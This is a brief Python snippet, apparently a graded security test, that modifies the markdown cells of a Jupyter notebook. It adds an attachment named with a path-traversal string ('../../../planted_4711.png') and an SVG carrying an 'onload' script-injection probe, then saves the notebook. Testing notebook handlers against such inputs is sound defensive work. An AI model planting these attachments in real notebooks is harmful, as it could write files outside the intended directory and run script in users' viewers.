# tries: names attachments so that they would be written elsewhere
# must: earn 10
# rest: solved
# %% build
for c in honest["cells"]:
    if c["cell_type"] == "markdown":
        c["attachments"] = {"../../../planted_4711.png": {"image/png": "iVBORw0KGgo="}, "x.svg": {"image/svg+xml": "<svg onload=alert_4711>"}}
        c["source"] += "\n![a](attachment:../../../planted_4711.png)"
save(honest)
